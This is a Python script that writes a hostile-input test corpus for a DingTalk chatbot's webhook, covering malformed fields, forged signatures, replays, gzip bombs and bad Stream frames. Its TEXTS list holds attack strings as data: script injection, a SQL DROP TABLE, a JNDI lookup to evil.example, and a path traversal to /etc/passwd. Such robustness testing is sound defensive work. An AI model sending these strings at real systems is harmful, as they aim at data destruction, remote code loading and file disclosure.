"""Writes tests/data/hostile_inputs.jsonl, the hostile-input corpus (issue #23) that
tests/test_hostile_inputs.py runs against the real `saima run` in HTTP and Stream mode.

    .venv/bin/python tests/data/make_hostile_inputs.py

One JSON object a line (a test checks the file is this script's output). The first line is the
"base" message, as DingTalk sends it; the others, in four kinds:
- "payload": the base message with fields `set` (and `drop`ped), one thing odd; sent over both
  transports. `expect` is "answered" (stored once, answered once; `reply` starts the answer when
  given) or "refused" (HTTP 400, Stream ACKed; nothing stored, nothing answered).
- "request": an HTTP callback as bytes on a socket (HTTP only): headers, body (the base message
  unless given), encoding, framing, compression; `status` is the answer it gets, `stores` whether
  its message is stored (and answered once).
- "replay": a signed message, then its signature again with `variant` (HTTP only).
- "frame": a Stream frame the gateway never sends (Stream only); `acked`: it has a messageId.

Placeholders the runner fills in for each entry: $MSG_ID, $GROUP, $SENDER, $WEBHOOK (a live
sessionWebhook of the fake), $NOW and $EXPIRES (ms); in headers $TIMESTAMP/$SIGN (a valid
signature), $WRONG_SIGN, $NEXT_SIGN (of the next millisecond), $STALE/$STALE_SIGN (61 min ago),
$FUTURE/$FUTURE_SIGN (61 min ahead); $FORGED_WEBHOOK is a sessionWebhook DingTalk never issued. A long string is written {"$repeat": [[text, times], …]}.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

OUT = Path(__file__).with_name("hostile_inputs.jsonl")
NO_TEXT = "请发送文字指令，例如 /帮助"
MAX_ID = 128  # the storage's id columns (storage/models.py)

BASE: dict[str, Any] = {
    "conversationId": "$GROUP",
    "atUsers": [{"dingtalkId": "$:LWCP_v1:$bot"}],
    "chatbotCorpId": "ding-corp",
    "chatbotUserId": "$:LWCP_v1:$bot",
    "msgId": "$MSG_ID",
    "senderNick": "张三",
    "isAdmin": False,
    "senderStaffId": "$SENDER",
    "sessionWebhookExpiredTime": "$EXPIRES",
    "createAt": "$NOW",
    "senderCorpId": "ding-corp",
    "conversationType": "2",
    "senderId": "$:LWCP_v1:$staff",
    "conversationTitle": "赛马测试群",
    "isInAtList": True,
    "sessionWebhook": "$WEBHOOK",
    "text": {"content": " /帮助"},
    "msgtype": "text",
    "robotCode": "ding-client-id",
}

# What people type, and what an attacker types.
TEXTS = [
    "",
    " ",
    "\n\n\t",
    "@机器人",
    "@机器人 @张三",
    "/帮助",
    "／帮助",
    "/HELP",
    "帮助",
    "/排名",
    "/进度",
    "/未报",
    "/排名 9999-12-31",
    "/排名 0001-01-01",
    "/排名 2021-02-30",
    "/绑定 evil 管理员",
    "/绑定群",
    "/周报 实际利用外资=1e309",
    "/周报 实际利用外资=-1",
    "/周报 实际利用外资=１２３４５６７８９０１２３４５６７８９０",
    "/周报 " + "实际利用外资=1 " * 300,
    "/" + "帮" * 2001,
    "x" * 100_000,
    "# 标题\n**粗体** [链接](http://evil.example) ![图](http://evil.example/a.png)",
    "<script>alert(1)</script>",
    "'; DROP TABLE inbox; --",
    "%s %n %x {0} {message} ${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "\u202e/帮助\u202c",
    "/帮\u200b助",
    "\ufeff/帮助",
    "/帮助\u2028第二行\u2029",
    "/帮助\x00\x01\x07\x1b[31m",
    "/帮助\r\n/排名\r",
    "𝕏 🙂 👨‍👩‍👧 \U0010ffff",
    "e\u0301\u0301\u0301\u0301\u0301\u0301",
    "/帮助 " + "\\" * 50,
    '{"msgId": "inner", "text": {"content": "/帮助"}}',
    "/周报\n实际利用外资：26600\n高技术：13400",
    "\ud800/帮助",
    "/帮助 \udfff",
]

MESSAGE_TYPES: list[tuple[str, Any, str]] = [
    # (msgtype, content, what it is answered: a reply prefix, or "" for any answer)
    ("picture", {"pictureDownloadCode": "p", "downloadCode": "d"}, NO_TEXT),
    ("video", {"duration": "5", "videoType": "mp4", "downloadCode": "d"}, NO_TEXT),
    (
        "file",
        {"spaceId": "1", "fileName": "报送.xlsx", "downloadCode": "d", "fileId": "2"},
        NO_TEXT,
    ),
    ("unknownMsgType", {"unknownMsgType": "用户发送了一条消息，机器人暂不支持接收。"}, NO_TEXT),
    ("audio", {"downloadCode": "d", "recognition": "帮助"}, ""),
    ("audio", {"downloadCode": "d"}, NO_TEXT),
    ("audio", {"recognition": None}, NO_TEXT),
    ("audio", {"recognition": ["帮助"]}, NO_TEXT),
    ("richText", {"richText": [{"text": "/帮助"}, {"downloadCode": "d", "type": "picture"}]}, ""),
    ("richText", {"richText": [{"downloadCode": "d", "type": "picture"}]}, NO_TEXT),
    ("richText", {"richText": []}, NO_TEXT),
    ("richText", {"richText": 5}, NO_TEXT),
    ("richText", {"richText": None}, NO_TEXT),
    ("richText", {"richText": "/帮助"}, NO_TEXT),
    ("richText", {"richText": [1, None, "text", [], {"text": 7}]}, NO_TEXT),
    ("richText", {}, NO_TEXT),
    ("markdown", {"text": "/帮助"}, NO_TEXT),
    ("interactiveCard", None, NO_TEXT),
    ("", None, NO_TEXT),
    ("TEXT", None, NO_TEXT),
    ("chatRecord", {"chatRecord": "[]"}, NO_TEXT),
    ("picture", None, NO_TEXT),
]
REFUSED_TYPES: list[tuple[Any, Any]] = [
    ("picture", "not an object"),
    ("picture", ["downloadCode"]),
    (5, None),
    (["text"], None),
    ({"type": "text"}, None),
]

VALUES: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    3.5,
    2**63,
    10**20,
    float("nan"),
    float("inf"),
    "",
    " ",
    "1",
    "2",
    "x" * MAX_ID,
    "x" * (MAX_ID + 1),
    "m\u0000",
    "c\ud800",
    "🙂",
    "/帮助",
    "$FORGED_WEBHOOK",  # a sessionWebhook URL of the fake that DingTalk never issued
    [],
    {},
    [None],
    {"content": 5},
]
ANY = object()  # a field whose value no answer depends on


def is_id(value: Any, empty_ok: bool = False) -> bool:
    return (
        isinstance(value, str)
        and (empty_ok or value != "")
        and len(value) <= MAX_ID
        and not re.search(r"[\x00-\x1f\x7f-\x9f\ud800-\udfff]", value)
    )


# The contract, field by field: which values a message may carry (else it is refused).
ACCEPTS = {
    "msgId": is_id,
    "conversationId": is_id,
    "senderStaffId": lambda v: v is None or is_id(v, empty_ok=True),
    "senderNick": lambda v: v is None or isinstance(v, str),
    "msgtype": lambda v: v is None or isinstance(v, str),
    "senderCorpId": lambda v: v is None or v == "" or is_id(v),
    "chatbotCorpId": lambda v: v is None or v == "" or is_id(v),
    "createAt": lambda v: False,  # none of VALUES is a time since 2015
    "conversationType": lambda v: str(v) in ("1", "2"),
    "atUsers": lambda v: v is None or (isinstance(v, list) and all(isinstance(u, dict) for u in v)),
    "text": lambda v: isinstance(v, dict) and isinstance(v.get("content", ""), str),
}
EVERY_FIELD = [
    *ACCEPTS,
    "content",
    "sessionWebhook",
    "sessionWebhookExpiredTime",
    "chatbotUserId",
    "robotCode",
    "isAdmin",
    "isInAtList",
    "senderId",
    "conversationTitle",
]
REQUIRED = {"msgId", "conversationId", "createAt", "text"}


def describe(value: Any) -> str:
    """A short, unique name for a value: long strings by their length."""
    if isinstance(value, str) and len(value) > 24:
        return f"{value[:12]!r}… ({len(value)} characters)"
    return repr(value)


def changes(drop: tuple[str, ...] = (), **fields: Any) -> dict[str, Any]:
    """The base message with `fields` set and `drop` left out, as an entry states it."""
    entry: dict[str, Any] = {"set": fields}
    if drop:
        entry["drop"] = list(drop)
    return entry


def repeat(*parts: tuple[str, int]) -> dict[str, Any]:
    return {"$repeat": [list(part) for part in parts]}


def compact(value: Any) -> Any:
    """Long runs of one character written as {"$repeat": …}: the file stays readable."""
    if isinstance(value, dict):
        return {key: compact(item) for key, item in value.items()}
    if isinstance(value, list):
        return [compact(item) for item in value]
    if isinstance(value, str) and len(value) > 64:
        runs = [(m.group(1), len(m.group(0))) for m in re.finditer(r"(.)\1*", value, re.DOTALL)]
        if len(runs) <= 8:
            return repeat(*runs)
    return value


def payload_entries() -> list[dict[str, Any]]:
    entries = []
    for number, text in enumerate(TEXTS):
        name = f"text {describe(text)}"
        entries.append(
            {"name": name, "kind": "payload", "expect": "answered"}
            | changes(text={"content": text})
        )
        if number % 3 == 0:  # the same in a one-to-one chat
            entries.append(
                {"name": f"one-to-one {name}", "kind": "payload", "expect": "answered"}
                | changes(text={"content": text}, conversationType="1")
            )
    for msgtype, content, reply in MESSAGE_TYPES:
        entries.append(
            {"name": f"msgtype {msgtype!r}, content {describe(content)}", "kind": "payload"}
            | {"expect": "answered", "reply": reply}
            | changes(("text",), msgtype=msgtype, content=content)
        )
    for msgtype, content in REFUSED_TYPES:
        entries.append(
            {"name": f"msgtype {msgtype!r}, content {content!r}", "kind": "payload"}
            | {"expect": "refused"}
            | changes(("text",), msgtype=msgtype, content=content)
        )
    for field in EVERY_FIELD:
        accepts = ACCEPTS.get(field, lambda v: True)
        for value in VALUES:
            entries.append(
                {"name": f"{field} = {describe(value)}", "kind": "payload"}
                | {"expect": "answered" if accepts(value) else "refused"}
                | changes(**{field: value})
            )
        entries.append(
            {"name": f"{field} missing", "kind": "payload"}
            | {"expect": "refused" if field in REQUIRED else "answered"}
            | changes((field,))
        )
    return entries


SIGNED = {
    "timestamp": "$TIMESTAMP",
    "sign": "$SIGN",
    "Content-Type": "application/json; charset=utf-8",
}


def request(name: str, status: int, *, stores: bool = False, **spec: Any) -> dict[str, Any]:
    spec.setdefault("headers", SIGNED)
    return {"name": name, "kind": "request", "status": status, "stores": stores, **spec}


def request_entries() -> list[dict[str, Any]]:
    def signed(**headers: str) -> dict[str, str]:
        return {k: v for k, v in {**SIGNED, **headers}.items() if v is not None}

    json_type = "application/json"
    return [
        request("signed, whole", 200, stores=True),
        request(
            "header names in other case",
            200,
            stores=True,
            headers={"TimeStamp": "$TIMESTAMP", "SIGN": "$SIGN", "content-type": json_type},
        ),
        request("no signature", 401, headers=signed(timestamp=None, sign=None)),
        request("no sign", 401, headers=signed(sign=None)),
        request("no timestamp", 401, headers=signed(timestamp=None)),
        request("signed with another secret", 401, headers=signed(sign="$WRONG_SIGN")),
        request(
            "timestamp 61 minutes old", 401, headers=signed(timestamp="$STALE", sign="$STALE_SIGN")
        ),
        request(
            "timestamp 61 minutes ahead",
            401,
            headers=signed(timestamp="$FUTURE", sign="$FUTURE_SIGN"),
        ),
        request("timestamp not a number", 401, headers=signed(timestamp="yesterday")),
        request(
            "timestamp in full-width digits",
            401,
            headers=signed(timestamp="１７００００００００００００"),
        ),
        request("timestamp negative", 401, headers=signed(timestamp="-1")),
        request("timestamp of 40 digits", 401, headers=signed(timestamp="9" * 40)),
        request("timestamp empty", 401, headers=signed(timestamp="")),
        request("sign empty", 401, headers=signed(sign="")),
        request("sign of 4 KB", 401, headers=signed(sign="A" * 4096)),
        request("sign of the timestamp +1 ms", 401, headers=signed(sign="$NEXT_SIGN")),
        request("text/plain", 415, headers=signed(**{"Content-Type": "text/plain"})),
        request("no content type", 415, headers=signed(**{"Content-Type": None})),
        request(
            "form content type",
            415,
            headers=signed(**{"Content-Type": "application/x-www-form-urlencoded"}),
        ),
        request(
            "json-patch content type",
            415,
            headers=signed(**{"Content-Type": "application/json-patch+json"}),
        ),
        request(
            "APPLICATION/JSON",
            200,
            stores=True,
            headers=signed(**{"Content-Type": "APPLICATION/JSON"}),
        ),
        request(
            "GBK body declared GBK",
            200,
            stores=True,
            encoding="gbk",
            headers=signed(**{"Content-Type": "application/json; charset=gbk"}),
        ),
        request("GBK body declared UTF-8", 400, encoding="gbk"),
        request(
            "UTF-16 body, no charset",
            200,
            stores=True,
            encoding="utf-16",
            headers=signed(**{"Content-Type": json_type}),
        ),
        request(
            "UTF-16 body declared UTF-16",
            200,
            stores=True,
            encoding="utf-16",
            headers=signed(**{"Content-Type": "application/json; charset=utf-16"}),
        ),
        request(
            "UTF-8 body with a BOM",
            200,
            stores=True,
            encoding="utf-8-sig",
            headers=signed(**{"Content-Type": json_type}),
        ),
        request(
            "unknown charset",
            400,
            headers=signed(**{"Content-Type": "application/json; charset=no-such"}),
        ),
        request(
            "charset rot13",
            400,
            headers=signed(**{"Content-Type": "application/json; charset=rot13"}),
        ),
        request("empty body", 400, body=""),
        request("body null", 400, body="null"),
        request("body []", 400, body="[]"),
        request('body "text"', 400, body='"text"'),
        request("body 1", 400, body="1"),
        request("body {", 400, body="{"),
        request("body NaN", 400, body="NaN"),
        request(
            "body of invalid UTF-8", 400, body_hex="7b226d73674964223a22ff fe227d".replace(" ", "")
        ),
        request("body nested 100,000 deep", 400, body="[" * 100_000 + "]" * 100_000),
        request("body nested 100,000 deep, never closed", 400, body="[" * 100_000),
        request("body with 300 KB of padding", 413, pad=300_000),
        request("body with 300 KB of padding, chunked", 413, pad=300_000, framing="chunked"),
        request("chunked in 7-byte chunks", 200, stores=True, framing="chunked", chunk=7),
        request("Content-Length, body in 3 writes", 200, stores=True, framing="split"),
        request("gzip", 200, stores=True, compress="gzip"),
        request("gzip of 20 MB of spaces", 413, compress="gzip-bomb"),
        request("gzip header, not gzip", 400, compress="bad-gzip"),
        request("deflate", 200, stores=True, compress="deflate"),
        request("Content-Encoding: br (no decoder)", 400, compress="br"),
        request("Content-Encoding: x-unknown, plain body", 200, stores=True, compress="x-unknown"),
        request("GET", 405, method="GET", body=""),
        request("PUT", 405, method="PUT"),
        request("trailing slash", 404, path="/dingtalk/callback/"),
        request("query string", 200, stores=True, path="/dingtalk/callback?debug=1&x=%00"),
        request(
            "Expect: 100-continue", 200, stores=True, headers=signed(**{"Expect": "100-continue"})
        ),
    ]


def replay_entries() -> list[dict[str, Any]]:
    variants = [
        ("another message under the same signature", 401),
        ("the same msgId with another text", 401),
        ("the same request again (DingTalk's retry)", 200),
        ("the same message, its JSON spelled otherwise", 200),
        ("the signature first with a malformed body, then the message", 200),
    ]
    return [
        {"name": f"replay: {variant}", "kind": "replay", "variant": variant, "status": status}
        for variant, status in variants
    ]


def frame_entries() -> list[dict[str, Any]]:
    def callback(number: int, data: Any, **changes: Any) -> dict[str, Any]:
        headers = {
            "appId": "fake-app",
            "contentType": "application/json",
            "messageId": f"hostile-frame-{number}",
            "time": "1700000000000",
            "topic": "/v1.0/im/bot/messages/get",
        }
        return {
            "specVersion": "1.0",
            "type": "CALLBACK",
            "headers": headers,
            "data": data,
        } | changes

    ackable = [
        callback(1, "not JSON"),
        callback(2, {"an": "object, not a string"}),
        callback(3, "[" * 50_000 + "]" * 50_000),
        callback(4, "null"),
        callback(5, "[]"),
        callback(6, '"text"'),
        callback(7, "{}"),
        callback(8, 12345),
        callback(9, ""),
        callback(10, "{}", headers={"messageId": "hostile-frame-10", "time": "soon"}),
        callback(11, "{}", headers={"messageId": "hostile-frame-11", "time": None}),
        callback(12, "not JSON", type="SYSTEM"),
        callback(13, json.dumps({"msgId": "x" * 200, "conversationId": "c"})),
    ]
    entries = [
        {"name": f"frame {f['headers']['messageId']}", "kind": "frame", "frame": f, "acked": True}
        for f in ackable
    ]
    unackable: list[Any] = [
        "not JSON",
        "[1, 2]",
        '"a string"',
        "null",
        "[" * 100_000,
        {"type": "CALLBACK", "headers": "not an object", "data": "{}"},
        {"type": "CALLBACK", "headers": {"topic": "/v1.0/im/bot/messages/get"}, "data": "{}"},
        {"type": "CALLBACK"},
        {"type": 5, "headers": {"messageId": 7}},
    ]
    entries += [
        {"name": f"unackable frame #{n}", "kind": "frame", "frame": frame, "acked": False}
        for n, frame in enumerate(unackable)
    ]
    return entries


def corpus() -> list[dict[str, Any]]:
    entries = payload_entries() + request_entries() + replay_entries() + frame_entries()
    names = [entry["name"] for entry in entries]
    assert len(names) == len(set(names)), "entry names must be unique"
    base = {"name": "the base message", "kind": "base", "payload": BASE}
    return [compact(entry) for entry in [base, *entries]]


def line(entry: dict[str, Any]) -> str:
    text = json.dumps(entry, ensure_ascii=False)
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:  # a lone surrogate: only as a JSON escape
        return json.dumps(entry)
    return text


def render() -> str:
    return "".join(line(entry) + "\n" for entry in corpus())


if __name__ == "__main__":
    OUT.write_text(render(), encoding="utf-8")
    print(f"{OUT}: {len(corpus()) - 1} inputs")
